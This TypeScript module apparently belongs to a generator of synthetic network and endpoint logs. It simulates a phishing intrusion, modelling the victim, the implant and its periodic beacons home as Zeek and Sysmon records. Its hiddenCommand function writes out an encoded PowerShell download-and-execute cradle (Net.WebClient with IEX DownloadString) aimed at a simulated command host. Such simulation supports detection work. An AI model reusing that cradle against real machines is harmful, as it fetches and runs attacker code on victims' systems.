import { drawInteger, drawLognormal } from "../../stats/draw.ts";
import { lookUp } from "../activities/talk.ts";
import { encodeCommand } from "../base64.ts";
import type { Service, User } from "../organisation-types.ts";
import { processConnected, processQueried, type RunningProcess } from "../records/sysmon.ts";
import { type Connection, newConnection, zeekConn, zeekHttp, zeekSsl } from "../records/zeek.ts";
import type { Scene } from "../traffic-types.ts";
import type { PhishingManner } from "./phishing-manners.ts";

/** Who is written to, by whom, and where the implant calls home. */
export interface PhishingCast {
  readonly manner: PhishingManner;
  readonly victim: User;
  /** Of the message that the victim opens. */
  readonly messageId: string;
  readonly alsoAsked: readonly User[];
  readonly sender: string;
  readonly senderAddress: string;
  readonly documentName: string;
  readonly home: Service;
  readonly implant: { readonly processId: number; readonly guid: string };
  readonly periodMs: number;
  readonly jitter: number;
}

/** The command that the document starts: hidden, encoded, and harmless here for its address exists nowhere. */
export function hiddenCommand(cast: PhishingCast): string {
  const script = `$w=New-Object Net.WebClient;$w.Headers.Add('Accept','text/plain');IEX $w.DownloadString('https://${cast.home.domain}/s/${cast.periodMs}')`;
  return cast.manner.command(encodeCommand(script), cast.home.domain);
}

/** The machine and account of the victim. */
export function machineOf({ organisation }: Scene, { victim }: PhishingCast) {
  return { computer: victim.workstation.name, account: `${organisation.netbios}\\${victim.name}` };
}

/** The process that runs the hidden command. */
export function implantOf(scene: Scene, cast: PhishingCast): RunningProcess {
  const { computer, account } = machineOf(scene, cast);
  return {
    computer: `${computer}.${scene.organisation.domain}`,
    account,
    image: cast.manner.interpreter.image,
    ...cast.implant,
  };
}

/** One call: small, nearly always of the same size. The machine's own log shows it only where a process is given. */
export function callHome(scene: Scene, delayMs: number, cast: PhishingCast, process: RunningProcess | null): void {
  const { random, identifiers } = scene;
  const { port, askedBytes, answeredBytes } = cast.manner;
  const from = cast.victim.workstation.address;
  const to = cast.home.addresses[0] ?? "192.0.2.1";
  const connection = newConnection(identifiers, { from, to, toPort: port });
  if (process !== null) {
    lookUp(scene, delayMs, from, cast.home.domain, cast.home.addresses);
    scene.emit(delayMs + 15, "windows", processQueried(process, cast.home.domain, cast.home.addresses));
    scene.emit(
      delayMs + 60,
      "windows",
      processConnected(process, { from, fromPort: connection.fromPort, to, toPort: port, name: cast.home.domain }),
    );
  }
  const summary = {
    protocol: "tcp",
    service: port === 443 ? "ssl" : "http",
    state: "SF",
    durationMs: drawLognormal(random, 420, 0.15),
    bytesOut: askedBytes + drawInteger(random, 0, 24),
    bytesIn: answeredBytes + drawInteger(random, 0, 40),
  } as const;
  scene.emit(delayMs + 40, "zeek.conn", zeekConn(connection, summary));
  scene.emit(
    delayMs + 70,
    port === 443 ? "zeek.ssl" : "zeek.http",
    port === 443 ? zeekSsl(connection, cast.home.domain) : askOverHttp(connection, cast, summary),
  );
}

function askOverHttp(
  connection: Connection,
  { home }: PhishingCast,
  { bytesOut, bytesIn }: { readonly bytesOut: number; readonly bytesIn: number },
) {
  return zeekHttp(connection, {
    method: "POST",
    host: home.domain,
    uri: "/u/status",
    userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    status: 200,
    requestBytes: bytesOut,
    responseBytes: bytesIn,
    mimeType: "text/plain",
  });
}
